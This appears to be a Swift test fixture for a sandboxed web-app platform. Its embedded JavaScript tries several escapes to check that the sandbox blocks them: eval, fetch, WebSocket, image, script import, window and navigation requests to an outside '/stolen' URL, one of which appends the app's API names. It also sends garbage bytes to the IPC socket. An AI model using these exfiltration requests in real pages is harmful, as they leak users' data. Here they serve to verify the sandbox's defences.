import ComponentStorage
import Components
import Foundation
import Networking
import Synchronization
import WebGUI

/// Lines that pages wrote to their log.
final class Lines: Sendable {
    private let lines = Mutex<[String]>([])

    var all: [String] { lines.withLock { $0 } }

    func add(_ line: String) { lines.withLock { $0.append(line) } }

    /// Waits for a line, for a minute at most.
    func wait(for line: String, times: Int = 1) async throws -> Bool {
        for _ in 0..<1200 {
            if all.count(where: { $0 == line }) >= times { return true }
            try await Task.sleep(for: .milliseconds(50))
        }
        return false
    }
}

/// An app as those of the platform are: a setup script that it does not bring along, and modules that use `w3n` in their first line.
struct SampleApp {
    let lines = Lines()
    let connections = Count()
    let storage: StorageRoot
    /// Another server of this computer, which the app may not reach.
    let outside: String

    final class Count: Sendable {
        private let value = Mutex(0)
        var count: Int { value.withLock { $0 } }
        func add() { value.withLock { $0 += 1 } }
    }

    func site() -> PageSite {
        let (lines, connections, storage) = (lines, connections, storage)
        let root = ServiceObject(
            functions: [
                "log": .immediateValues { arguments, _ throws(RuntimeException) in
                    lines.add(try arguments.argument(1, \.string))
                    return nil
                }
            ],
            members: [
                "storage": ServiceObject(functions: [
                    "getAppLocalFS": .promise { call async throws(RuntimeException) in
                        try storage.serve(writable: true, name: "app", on: call.connection).encoded
                    }
                ])
            ])
        let files = ["/index.html": Self.page, "/lib/say.mjs": Self.say, "/app.js": script]
        return PageSite(
            frame: WindowFrame(title: "Sample"),
            entryPoint: .indexPage,
            file: { path in files[path.text].map { PageFile(Array($0.utf8)) } },
            listing: { await PrewarmedListing(root) },
            permissions: { Permissions() },
            connect: { socket in
                connections.add()
                return socket.connection(root: root)
            })
    }

    private static let page = """
        <!doctype html>
        <html><head><meta charset="utf-8"><title>Sample</title>
        <script src="/setup-w3n.bundle.js"></script>
        <script>globalThis.inlineRan = true</script>
        <script type="module" src="/app.js?v=1"></script>
        </head><body onload="globalThis.inlineRan = true"></body></html>
        """

    private static let say = "export const say = text => w3n.log('info', text)"

    private var script: String {
        """
        import { say } from './lib/say.mjs'
        const names = Object.keys(w3n).sort().join()
        const refused = async (what, attempt) => {
          try { await attempt(); say(`${what} worked`) } catch { say(`${what} refused`) }
        }

        const restrictions = async () => {
          say(`inline script ${globalThis.inlineRan ? 'ran' : 'refused'}`)
          say(`handles ${[globalThis._ipc_, globalThis._w3n_host_].every(x => x === undefined) ? 'gone' : 'left'}`)
          say(`cookie ${document.cookie === '' ? 'hidden' : 'seen'}`)
          await refused('eval', () => (0, eval)('1'))
          await refused('function of text', () => new Function('return 1')())
          await refused('fetch elsewhere', () => fetch('\(outside)/stolen', { mode: 'no-cors' }))
          await refused('socket elsewhere', () => new Promise((resolve, reject) => {
            const socket = new WebSocket('\(outside)/stolen'.replace('http', 'ws'))
            socket.onopen = resolve
            socket.onerror = reject
          }))
          await refused('image elsewhere', () => new Promise((resolve, reject) => {
            const image = new Image()
            image.onload = resolve
            image.onerror = reject
            image.src = '\(outside)/stolen'
          }))
          await refused('script elsewhere', () => import('\(outside)/stolen.js'))
          await refused('new window', () => { if (open('\(outside)/stolen') === null) throw new Error('none') })
          await refused('window around', () => parent.document.title)
          await refused('leaving with the window', () => { top.location = '\(outside)/stolen' })
          await refused('wasm', () => WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))
          await refused('own file', () => fetch('/app.js').then(reply => reply.text()))
        }

        const files = async () => {
          const fs = await w3n.storage.getAppLocalFS()
          const seen = []
          const stop = fs.watchFolder('', { next: change => seen.push(change) })
          const bytes = Uint8Array.from({ length: 3_000_000 }, (_, index) => index * 7)
          await fs.writeBytes('big', bytes)
          const back = await fs.readBytes('big')
          say(`bytes ${back.length === bytes.length && back.every((byte, index) => byte === bytes[index])}`)
          const folder = await fs.writableSubRoot('folder')
          await folder.writeTxtFile('note', 'grüße 🐧')
          say(`text ${await fs.readTxtFile('folder/note')}`)
          try { await fs.readTxtFile('none') } catch (error) { say(`exception ${error.type} ${error.notFound}`) }
          for (let turn = 0; seen.length === 0 && turn < 500; turn += 1) {
            await fs.writeTxtFile(`turn ${turn}`, '')
            await new Promise(resolve => setTimeout(resolve, 20))
          }
          stop()
          say(`watched ${seen.length > 0}`)
        }

        const garbage = () => new Promise(resolve => {
          const socket = new WebSocket(location.origin.replace('http', 'ws') + '/w3n-ipc')
          socket.onopen = () => socket.send(new Uint8Array([255, 255, 255]))
          socket.onclose = () => resolve(say('garbage closed'))
        })

        // What no script is told about: a download, and another page in the frame.
        const leave = () => {
          const link = Object.assign(document.createElement('a'), { href: '\(outside)/stolen', download: 'x' })
          document.body.append(link)
          link.click()
          link.remove()
          location.href = '\(outside)/stolen?' + names
        }

        if (sessionStorage.getItem('again')) {
          await say(`again ${names}`)
          setTimeout(leave, 100)
        } else {
          say(`names ${names}`)
          await restrictions()
          await files()
          await garbage()
          say('done')
          sessionStorage.setItem('again', 'yes')
          setTimeout(() => location.reload(), 0)
        }
        """
    }
}
